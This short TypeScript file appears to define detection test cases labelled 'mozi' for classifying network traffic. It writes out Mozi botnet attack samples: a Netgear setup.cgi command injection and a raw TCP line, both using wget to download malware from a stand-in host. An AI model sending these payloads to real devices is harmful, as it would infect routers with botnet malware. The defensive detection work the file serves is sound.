import { type Proof, get, proof, tcp } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'mozi',
    [
      get(
        '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.7:8088/Mozi.m+-O+/tmp/netgear',
      ),
      tcp(8080, 'wget http://198.51.100.7/Mozi.a'),
    ],
    get('/mozilla.html'),
  ),
]
